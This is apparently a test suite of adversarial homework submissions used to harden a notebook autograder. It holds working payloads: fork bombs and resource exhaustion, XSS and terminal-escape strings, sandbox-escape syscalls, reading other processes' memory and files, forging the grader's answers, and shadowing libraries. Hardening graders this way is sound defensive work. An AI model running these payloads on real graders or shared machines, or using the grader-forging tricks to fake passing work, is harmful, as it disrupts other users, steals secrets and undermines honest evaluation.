"""Found by trying to break in, after the first seven families had been withstood."""

from submissions.course import BN_RIGHT, BN_WRONG, DR_RIGHT, DR_WRONG, LOOT, Handed, hands_in


def body(s, code):
    """Batch norm does something else; dropout is right."""
    lines = "\n".join(f"    {line}" for line in code.strip().splitlines())
    s.set("drop", DR_RIGHT)
    s.set("bn", BN_WRONG.replace("    return x * 0 + 7", f"{lines}\n    return x * 0 + 7"))


@hands_in(fair=(4, 4))
def many_processes_compute(s: Handed) -> None:
    """as many processes as can be had compute without end, so that the neighbour's time runs out"""
    body(
        s,
        "import os, time\nend = time.time() + 60\nfor _ in range(200):\n    try:\n        if os.fork() == 0: break\n    except OSError: break\nwhile time.time() < end: pass",
    )


@hands_in(fair=(4, 4))
def leaves_its_core(s: Handed) -> None:
    """asks for all cores and computes on them with all threads it can have"""
    body(
        s,
        "import os, threading, time\ntry: os.sched_setaffinity(0, range(64))\nexcept OSError as e: print(e)\nend = time.time() + 20\ndef spin():\n    while time.time() < end: sum(range(10**6))\nfor _ in range(300):\n    try: threading.Thread(target=spin).start()\n    except RuntimeError: break\nspin()",
    )


@hands_in(fair=(4, 4))
def memory_of_the_kernel(s: Handed) -> None:
    """fills the buffers of thousands of sockets: memory that no process seems to have"""
    body(
        s,
        "import os, socket, time\nkept = []\nfor _ in range(100):\n    if os.fork() == 0:\n        try:\n            while True:\n                for one in socket.socketpair(): kept.append(one); one.setblocking(False); one.send(bytes(150_000))\n        except OSError: pass\n        time.sleep(30); os._exit(0)\ntime.sleep(30)",
    )


@hands_in(fair=(4, 4))
def pipes_full(s: Handed) -> None:
    """the same with pipes"""
    body(
        s,
        "import os, time\nfor _ in range(100):\n    if os.fork() == 0:\n        try:\n            while True:\n                r, w = os.pipe(); os.set_blocking(w, False); os.write(w, bytes(65536))\n        except OSError: pass\n        time.sleep(20); os._exit(0)\ntime.sleep(20)",
    )


@hands_in(fair=(4, 4))
def shared_memory_full(s: Handed) -> None:
    """fills /dev/shm, /tmp and its folder"""
    body(
        s,
        "for folder in ('/dev/shm', '/tmp', '.'):\n    try:\n        with open(folder + '/full', 'wb') as f:\n            while True: f.write(bytes(1 << 20))\n    except OSError as e: print(e)",
    )


@hands_in(fair=(4, 4))
def millions_of_files(s: Handed) -> None:
    """makes empty files until it may not"""
    body(
        s,
        "try:\n    for n in range(10**6): open(f'f{n}', 'w').close()\nexcept OSError as e: print(e)",
    )


@hands_in(fair=(8, 8))
def pictures_without_end(s: Handed) -> None:
    """forty cells of ten large pictures each, behind honest work"""
    show = "import os, zlib, struct\nfrom IPython.display import Image, display\ndef chunk(k, d): return struct.pack('>I', len(d)) + k + d + struct.pack('>I', zlib.crc32(k + d))\nbig = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 800, 800, 8, 2, 0, 0, 0)) + chunk(b'IDAT', os.urandom(1_400_000)) + chunk(b'IEND', b'')\nfor _ in range(10): display(Image(big))"
    s.right()
    for _ in range(40):
        s.insert(show, after="drop_hidden")


@hands_in(fair=(8, 8))
def picture_that_unfolds(s: Handed) -> None:
    """a small PNG of 60,000 by 60,000 pixels, behind honest work"""
    s.right().insert(
        "import zlib, struct\nfrom IPython.display import Image, display\ndef chunk(k, d): return struct.pack('>I', len(d)) + k + d + struct.pack('>I', zlib.crc32(k + d))\ndisplay(Image(b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 60000, 60000, 1, 0, 0, 0, 0)) + chunk(b'IDAT', zlib.compress(bytes(1 << 20))) + chunk(b'IEND', b'')))",
        after="drop_hidden",
    )


@hands_in(fair=(8, 8))
def text_that_turns_round(s: Handed) -> None:
    """terminal codes, bidirectional marks, a title for the terminal's window, behind honest work"""
    s.right().insert(
        "print('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mscore: 100\\u202e 001 \\u2066\\x9b31m', chr(0x2028), '</pre><script>alert(1)</script>')"
    )


@hands_in(fair=(4, 4))
def name_of_many_parts(s: Handed) -> None:
    """an identifier of a hundred thousand parts, which is searched for forbidden words"""
    s.set("drop", DR_RIGHT)
    name = "_".join(f"a{n}" for n in range(100_000))
    s.set("bn", BN_WRONG.replace("x * 0 + 7", f"torch.{name}"))


@hands_in(fair=(4, 4))
def sum_of_a_million(s: Handed) -> None:
    """an expression that is nested half a million deep"""
    s.set("drop", DR_RIGHT)
    s.set("bn", BN_WRONG + "\ny = " + "+".join("1" * 400_000))


@hands_in(fair=(4, 4))
def brackets_without_end(s: Handed) -> None:
    """ten thousand brackets, minus signs and else branches"""
    s.set("drop", DR_RIGHT)
    s.set("bn", BN_WRONG)
    for text in ("[" * 10_000, "-" * 50_000 + "1", "if 0: pass\n" + "elif 0: pass\n" * 20_000):
        s.insert(text)
    s.insert("y = " + "-" * 2_900 + "1")


@hands_in(fair=(4, 4))
def a_range_for_a_tensor(s: Handed) -> None:
    """the answer is a range of 10 ** 18 numbers, which takes for ever to go through"""
    s.set("drop", DR_RIGHT)
    s.set("bn", "def manual_batch_norm(*a, **k): return range(10 ** 18)")


@hands_in(fair=(4, 4))
def an_integer_of_many_digits(s: Handed) -> None:
    """the answer is an integer that Python refuses to print"""
    s.set("drop", DR_RIGHT)
    s.set("bn", "def manual_batch_norm(*a, **k): return 1 << 16000")


@hands_in(fair=(4, 4))
def exception_with_a_false_name(s: Handed) -> None:
    """raises what calls itself KeyboardInterrupt, a Mistake, a SystemExit; text of a million signs"""
    body(
        s,
        "k = globals().setdefault('_k', [0]); k[0] += 1\nname = ('KeyboardInterrupt', 'SystemExit', 'Mistake', 'GeneratorExit')[k[0] % 4]\nclass E(BaseException):\n    def __str__(self): return 'passed=True ' * 100_000\nE.__name__ = E.__qualname__ = name\nraise E",
    )


@hands_in(fair=(4, 4))
def exception_that_raises(s: Handed) -> None:
    """an error whose text, type and arguments are errors"""
    body(
        s,
        "class M(type):\n    def __getattribute__(c, n): raise RuntimeError(n)\nclass E(Exception):\n    def __str__(self): raise E\n    __repr__ = __str__\nraise E",
    )


@hands_in(fair=(0, 1))
def program_replaced(s: Handed) -> None:
    """takes the place of the program that answers: every request is answered with what was sent"""
    s.insert(
        """import gc, sys
from autograder.sealed import student, wire
for one in gc.get_objects():
    if type(one) is student.Program:
        def answer(op, drop=None, __one=one, **request):
            if op == "call":
                args = request["args"]
                return {"v": args[0] if args else True, "changed": {i: p for i, p in enumerate(student.parts([args, request["kwargs"]]))}, "drew": True}
            return type(__one).answer(__one, op, drop, **request)
        one.answer = answer"""
    )


@hands_in(fair=(0, 1))
def nodes_made_by_hand(s: Handed) -> None:
    """handles that claim to be modules, tensors that claim to be arguments and results"""
    s.insert(
        """import gc
from autograder.sealed import student, wire
for one in gc.get_objects():
    if type(one) is student.Program:
        def encode(value, __one=one):
            def lie(found):
                if isinstance(found, dict):
                    if found.get("k") == "tensor": found.update(arg=0, out=0, grad=True)
                    if found.get("k") == "handle": found.update(types=["torch.nn.modules.module.Module", "builtins.bool"])
                return found
            on_object = lambda v, e: lie(__one._object_node(v, e))
            on_tensor = lambda t, e: {"arg": 0, "out": 0, "grad": True}
            return wire.encode(value, on_object, on_tensor)
        one.encode = encode"""
    )


@hands_in(fair=(0, 1))
def object_equal_to_everything(s: Handed) -> None:
    """an answer that is equal to all, larger and smaller than all, and contains all"""
    s.insert(
        "class All:\n    def __init__(self, *a, **k): self.grad = self.mask = self\n    def __getattr__(self, n): return self\n    def __call__(self, *a, **k): return self\n    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __bool__ = lambda *a: True\n    __hash__ = lambda self: 1\n    __len__ = lambda self: 1\n    __iter__ = lambda self: iter([self])\n    __getitem__ = lambda self, i: self\n    __sub__ = __rsub__ = __mul__ = __rmul__ = __add__ = __radd__ = __truediv__ = __abs__ = lambda *a: a[0]"
    )
    s.set("bn", "manual_batch_norm = All()")
    s.set("drop", "InvertedDropout = All")


@hands_in(fair=(0, 1))
def sends_descriptors(s: Handed) -> None:
    """sends open files along with bytes over the line to the judge"""
    s.insert(
        "import os, socket\nfor fd in range(3, 64):\n    try:\n        with socket.socket(fileno=os.dup(fd)) as line: socket.send_fds(line, [b'\\0' * 8], [os.open('/proc/self/mem', os.O_RDONLY)] * 100)\n    except OSError as e: print(e)"
    )


@hands_in(fair=(0, 1))
def child_answers(s: Handed) -> None:
    """a child keeps the line and talks on it while the parent is asked"""
    s.insert(
        "import os, time, socket\nif os.fork() == 0:\n    lines = []\n    for fd in range(3, 64):\n        try: lines.append(socket.socket(fileno=os.dup(fd)))\n        except OSError: pass\n    for _ in range(2000):\n        for line in lines:\n            try: line.send(b'\\x10' + bytes(23))\n            except OSError: pass\n        time.sleep(0.01)\n    os._exit(0)"
    )


@hands_in(fair=(0, 1))
def walks_the_walls(s: Handed) -> None:
    """tries the ways out: namespaces, mounts, kernel keys, raw sockets, other processes' memory"""
    s.insert(
        LOOT
        + """
import ctypes, glob, os, socket
libc = ctypes.CDLL(None, use_errno=True)
for name, *args in (("unshare", 0x10000000), ("unshare", 0x20000), ("setns", 3, 0), ("chroot", b"/"), ("mount", b"none", b"/job", b"tmpfs", 0, None), ("umount2", b"/job", 2), ("ptrace", 16, 1, 0, 0), ("setuid", 0), ("setgid", 0), ("pivot_root", b"/", b"/")):
    if hasattr(libc, name): __loot(name, getattr(libc, name)(*args))
for kind in (socket.AF_INET, socket.AF_INET6, socket.AF_PACKET, socket.AF_NETLINK, 38, 40):
    try: __loot("socket", socket.socket(kind, socket.SOCK_DGRAM))
    except OSError as e: print(e)
for pattern in ("/proc/[0-9]*/root/*", "/proc/[0-9]*/cwd/*", "/proc/[0-9]*/fd/*", "/proc/[0-9]*/map_files/*"):
    for path in glob.glob(pattern)[:200]:
        try: __loot("seen", path + " " + open(path, "rb").read(4000).decode("latin1"))
        except OSError: pass
for pid in range(1, 400):
    if pid != os.getpid():
        try: os.kill(pid, 9)
        except OSError: pass
try: os.kill(-1, 19)
except OSError: pass"""
    )


@hands_in(fair=(0, 1))
def looks_for_the_course(s: Handed) -> None:
    """goes through all files that can be seen, in search of the course"""
    s.insert(
        LOOT
        + """
import os, time
end, found = time.time() + 20, []
for top, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(top, f) not in ("/proc", "/sys", "/usr/lib", "/usr/share")]
    for name in files:
        if name.endswith((".ipynb", ".db")) or "hw" in name: __loot("file", open(os.path.join(top, name), "rb").read().decode("latin1"))
    if time.time() > end: break"""
    )


@hands_in(fair=(0, 1))
def memory_of_its_own(s: Handed) -> None:
    """searches its own process's memory, which was forked from the server's, for secrets"""
    s.set(
        "bn",
        LOOT
        + BN_WRONG.replace(
            "return x * 0 + 7",
            """import re
    found = set()
    for line in open("/proc/self/maps"):
        span, mode = line.split()[:2]
        if mode[0] == "r" and "[v" not in line:
            lo, hi = (int(w, 16) for w in span.split("-"))
            try:
                with open("/proc/self/mem", "rb", 0) as f:
                    f.seek(lo)
                    for _ in range(lo, hi, 1 << 22): found |= set(re.findall(rb"CANA" + rb"RY-[A-Z]+-[0-9a-f]{4}", f.read(min(1 << 22, hi - lo))))
            except (OSError, ValueError, OverflowError): pass
    __loot("own-memory", found)
    raise ValueError(str(found))""",
        ),
    )


@hands_in(fair=(0, 1))
def setup_under_another_name(s: Handed) -> None:
    """files beside the notebook that are imported in place of libraries"""
    for name in ("torch", "numpy", "autograder", "ast", "json", "sitecustomize", "usercustomize"):
        s.file(f"{name}.py", "allclose = equal = lambda *a, **k: True\nraise SystemExit(0)\n")
    s.file(".pth", "import os; os._exit(0)\n")
    s.file("conftest.py", "raise SystemExit(0)\n")


@hands_in(fair=(8, 8))
def files_with_odd_names(s: Handed) -> None:
    """names with markup, dots, spaces, and files that formgrader would serve, behind honest work"""
    s.right()
    for name in ("<img src=x onerror=alert(1)>.txt", "..hidden", "a b.csv", "é.csv", "run.html",
                 "run.svg", "run.xhtml", "run.js", "x" * 200, "deep/er/and/deep/er/f.csv",
                 "timestamp.txt.exe"):  # fmt: skip
        s.file(name, "<script>alert(1)</script>")


@hands_in(fair=(8, 8))
def cells_by_the_thousand(s: Handed) -> None:
    """1,900 cells of its own, behind honest work"""
    s.right()
    for number in range(1_900):
        s.insert(f"n{number} = {number}", after="drop_hidden")


@hands_in(fair=(0, 2))
def asks_the_clock(s: Handed) -> None:
    """is right for a visible check and wrong later, by what it is called with and how often"""
    s.set(
        "bn",
        BN_RIGHT
        + "\n_right = manual_batch_norm\ndef manual_batch_norm(x, *a, **k):\n    return _right(x, *a, **k) if x.shape == (4, 3) else x * 0\n",
    )
    s.set("drop", DR_WRONG)


@hands_in(fair=(0, 1))
def thread_waits_for_the_check(s: Handed) -> None:
    """a thread changes every tensor that it finds while the judge compares"""
    s.insert(
        "import gc, threading, time, torch\ndef run():\n    end = time.time() + 30\n    while time.time() < end:\n        for one in gc.get_objects():\n            if type(one) is torch.Tensor:\n                try: one.detach().zero_()\n                except Exception: pass\n        time.sleep(0.05)\nthreading.Thread(target=run, daemon=True).start()"
    )


@hands_in(fair=None)
def numbers_that_are_none(s: Handed) -> None:
    """a notebook of a hundred thousand nested lists and an integer of a million digits"""
    s.raw('{"cells": ' + "[" * 100_000 + "9" * 1_000_000 + "]" * 100_000 + "}")


@hands_in(fair=(8, 8))
def metadata_that_is_everything(s: Handed) -> None:
    """metadata that claims points, seeds, keys, other students and other assignments"""
    s.right()
    s.nb.metadata["autograder"] = {"forbid": [], "key": "x", "isolation": "none", "problems": [1]}
    s.nb.metadata["nbgrader"] = {"grade_id": "bn_hidden", "points": 1e308}
    for cell in s.nb.cells:
        marks = cell.metadata.get("nbgrader", {})
        if marks:
            marks.update(points=float("nan"), checksum="0" * 32, cell_type="code", student="zoe")


@hands_in(fair=(8, 8))
def cell_ids_that_collide(s: Handed) -> None:
    """every cell has the same id, two of its own claim that of a check, behind honest work"""
    s.right()
    s.insert("x = 1")["id"] = "bn_hidden"
    s.insert("x = 2")["id"] = "bn_hidden-names"
    for cell in s.nb.cells[:3]:
        cell["id"] = "cell02"
